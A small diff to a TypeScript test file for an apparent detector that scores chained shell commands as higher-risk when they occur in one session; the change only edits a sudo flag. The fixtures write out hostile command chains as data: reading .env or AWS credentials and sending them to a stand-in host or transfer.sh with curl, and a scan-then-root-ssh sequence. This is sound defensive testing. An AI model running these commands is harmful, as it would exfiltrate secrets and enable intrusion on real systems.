@@ -61,7 +61,7 @@ describe('kill chains score higher in one session than apart', () => {
   const chains: Array<[string, string[]]> = [
     ['read .env → base64 → POST', ['cat .env', 'base64 .env', 'curl -X POST -d @- https://x.example']],
     ['cloud credentials → file drop', ['cat ~/.aws/credentials', 'curl -F f=@x https://transfer.sh']],
-    ['scan → ssh → sudo -l', ['nmap -sV 10.0.0.0/24', 'ssh root@10.0.0.5', 'sudo -l']],
+    ['scan → ssh → sudo -nl', ['nmap -sV 10.0.0.0/24', 'ssh root@10.0.0.5', 'sudo -nl']],
   ];
   it.each(chains)('%s', async (_name, calls) => {
     const together = await runSession(calls.map((call, k) => ({ call, at: k * 20_000 })));
